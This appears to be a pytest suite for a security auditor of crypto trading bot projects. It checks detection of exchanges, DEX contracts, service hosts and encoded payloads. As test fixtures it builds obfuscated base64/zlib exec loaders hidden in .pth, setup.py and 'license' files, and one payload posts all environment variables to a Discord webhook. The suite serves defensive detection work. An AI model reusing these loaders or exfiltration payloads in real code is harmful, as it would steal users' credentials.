"""Audit round 13: exchanges a project names only in its configs' lists, DEX contracts beyond
the routers, DEX APIs as the venue they are, paste and health-check services, hosts and
credentials inside payloads (a shipped .pth, a parenthesised base64 blob).  Each with
look-alikes that must name nothing.  Keys and tokens are fakes made for the test."""
from __future__ import annotations

import base64
import os
import zlib

from test_audit_capabilities import audit, project  # the same project builder and audit run


_DYNAMIC = ('import ccxt\n\ndef connect(name, key, secret):\n'
            '    return getattr(ccxt, name)({"apiKey": key, "secret": secret})\n')


# -- exchanges listed in configs ------------------------------------------------------------------

def test_json_venue_list(tmp_path):
    a = audit(project(tmp_path, {"bot.py": _DYNAMIC,
                                 "config/settings.json": '{"venues": ["bybit", "okx"], "symbols": ["BTC"]}\n'}))
    assert {"bybit", "okx"} <= set(a.exchanges)


def test_yaml_lists_of_exchanges(tmp_path):
    a = audit(project(tmp_path, {"bot.py": _DYNAMIC, "a.yaml": "exchanges: [kraken, kucoin]\n",
                                 "b.yml": "settings:\n  exchanges:\n    - gateio\n    # note\n    - bitget\n"
                                          "  symbols:\n    - binance\n"}))
    assert {"kraken", "kucoin", "gateio", "bitget"} <= set(a.exchanges)
    assert "binance" not in a.exchanges  # a list under another key


def test_yaml_list_items_with_an_exchange_key(tmp_path):
    a = audit(project(tmp_path, {"bot.py": _DYNAMIC, "accounts.yaml": (
        "accounts:\n  - exchange: binance\n    key_env: FOLIO_BINANCE_KEY\n"
        "  - exchange: coinbase\n    key_env: FOLIO_COINBASE_KEY\n")}))
    assert {"binance", "coinbase"} <= set(a.exchanges)


def test_lists_that_name_no_exchange(tmp_path):
    a = audit(project(tmp_path, {"bot.py": "print(1)\n", "c.json": '{"symbols": ["BTC", "ETH"], "coins": ["okx"]}\n',
                                 "d.yaml": "exchanges: [my-broker, paper]\nplugins:\n  - kraken_plugin\n",
                                 "e.toml": 'tags = ["binance"]\n'}))
    assert a.exchanges == []


# -- DEX contracts and APIs ---------------------------------------------------------------------------

def test_dex_contracts_beyond_the_routers(tmp_path):
    npm = 'NPM = Web3.to_checksum_address("0xC36442b4a4522E871399CD717aBDD847Ab11FE88")\n'
    a = audit(project(tmp_path, {"lp.py": 'from web3 import Web3\n' + npm,
                                 "f.py": 'FACTORY = "0xcA143Ce32Fe78f1f7019d7d551a6402fC5350c73"\n'}))
    assert {"uniswap", "pancakeswap"} <= set(a.exchanges)


def test_an_unknown_contract_names_no_dex(tmp_path):
    a = audit(project(tmp_path, {"t.py": 'TOKEN = "0x' + "5b1e" * 10 + '"\n'}))
    assert a.exchanges == []


def test_host_kinds_of_dex_paste_and_health_check_services(tmp_path):
    a = audit(project(tmp_path, {"p.py": 'import requests\n'
                                         'requests.get("https://quote-api.jup.ag/v6/quote")\n'
                                         'requests.get("https://hc-ping.com/5c1d0c3e-aaaa-bbbb-cccc-1234567890ab")\n'
                                         'requests.post("https://paste.rs/", data="report")\n'}))
    kinds = {h.host: h.kind for h in a.hosts}
    assert kinds["quote-api.jup.ag"] == "exchange"
    assert kinds["hc-ping.com"] == "third_party"
    assert kinds["paste.rs"] == "third_party"


# -- what payloads carry ----------------------------------------------------------------------------------

def _b64(code: str) -> str:
    return base64.b64encode(code.encode()).decode()


def test_hosts_of_a_shipped_pth_payload(tmp_path):
    code = 'import urllib.request\nurllib.request.urlopen("http://198.51.100.23:3000/k", data=b"x")\n'
    a = audit(project(tmp_path, {"pkg/__init__.py": "", "pkg_init.pth":
                                 f"import base64;exec(base64.b64decode('{_b64(code)}'))\n"}))
    assert "198.51.100.23" in {h.host for h in a.hosts}


def test_parenthesised_blob_joined_and_its_webhook(tmp_path):
    hook = "https://discord.com/api/webhooks/3321082178282967465/" + "Qm7lx" * 13 + "iEK"  # pragma: allowlist secret
    code = f'import urllib.request\nurllib.request.urlopen("{hook}", data=b"x")\n'
    blob = base64.b64encode(zlib.compress(code.encode())).decode()
    parts = "\n".join(f"    '{blob[i:i + 60]}'" for i in range(0, len(blob), 60))
    src = (f"import base64, zlib\n_LIC = (\n{parts}\n)\n\n"
           'def verify():\n    exec(zlib.decompress(base64.b64decode("".join(_LIC))), {"__name__": "lic"})\n')
    a = audit(project(tmp_path, {"engine/license.py": src}))
    assert "discord.com" in {h.host for h in a.hosts}
    assert a.hard_coded
    assert any("inside an encoded payload" in s.name for s in a.sources)


def test_a_payload_without_credentials_is_not_hard_coded(tmp_path):
    code = 'import urllib.request\nurllib.request.urlopen("https://example-cdn.top/v", data=b"x")\n'
    src = f"import base64\nexec(base64.b64decode('{_b64(code)}'))\n"
    a = audit(project(tmp_path, {"m.py": src}))
    assert not a.hard_coded
    assert "example-cdn.top" in {h.host for h in a.hosts}


# -- a setup.py that installs a reported .pth file --------------------------------------------------

_BUILD_PTH = ('import os, shutil\nfrom setuptools import setup\nfrom setuptools.command.build_py import build_py\n'
              'class B(build_py):\n    def run(self):\n        super().run()\n'
              '        shutil.copy("{name}", os.path.join(self.build_lib, "{name}"))\n'
              'setup(name="x", packages=["pkg"], cmdclass={{"build_py": B}})\n')


def test_setup_installing_a_reported_pth_is_reported_too(tmp_path):
    code = 'import urllib.request\nurllib.request.urlopen("http://198.51.100.24/ks", data=b"x")\n'
    a = audit(project(tmp_path, {"pkg/__init__.py": "", "setup.py": _BUILD_PTH.format(name="tools_init.pth"),
                                 "tools_init.pth": f"import base64; exec(base64.b64decode('{_b64(code)}'))\n"}))
    assert any(f.code == "BOT503" and f.path.endswith("setup.py") for f in a.findings)
    assert a.malicious


def test_setup_installing_an_honest_pth_is_quiet(tmp_path):
    # pytest-cov's way: a .pth whose import line starts coverage in subprocesses
    pth = ("import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n try:\\n"
           "  from pytest_cov.embed import init\\n  init()\\n except Exception:\\n  pass\\n')\n")
    a = audit(project(tmp_path, {"pkg/__init__.py": "", "setup.py": _BUILD_PTH.format(name="pkg-cov.pth"),
                                 "src/pkg-cov.pth": pth}))
    assert not any(f.code.startswith("BOT5") for f in a.findings)
    assert not a.malicious


# -- a decoded payload that harvests and sends: credentials exposed ---------------------------------

_STAGE2 = ('import os, requests\n'
           'requests.post("https://discord.com/api/webhooks/1/x", json={"env": dict(os.environ)})\n')


def test_a_decoded_payload_that_reads_and_sends_credentials_exposes_them(tmp_path):
    blob = base64.b64encode(zlib.compress(_STAGE2.encode())).decode()
    loader = f'import base64, zlib\nexec(zlib.decompress(base64.b64decode("{blob}")))\n'
    a = audit(project(tmp_path, {"tool.py": loader}))
    assert a.exposed and a.malicious


def test_a_decoded_payload_that_only_reads_or_only_sends_exposes_nothing(tmp_path):
    for stage in ('import os\nprint(os.environ.get("HOME"))\n',
                  'import requests\nrequests.post("https://api.example.org/ping", json={"ok": 1})\n'):
        blob = base64.b64encode(stage.encode()).decode()
        a = audit(project(tmp_path, {"tool.py": f'import base64\nCODE = base64.b64decode("{blob}")\n'}))
        assert not a.exposed


def test_a_leaked_key_in_a_bot_that_needs_no_exchange_key_reads_well(tmp_path):
    from botlint.audit.verdict import verdict_text

    key = base64.urlsafe_b64encode(os.urandom(32)).decode()
    a = audit(project(tmp_path, {"crypto.py": f'FERNET_KEY = "{key}"  # pragma: allowlist secret\n'}))
    text = verdict_text(a)
    assert "give it no exchange API key" in text and "permission permission" not in text
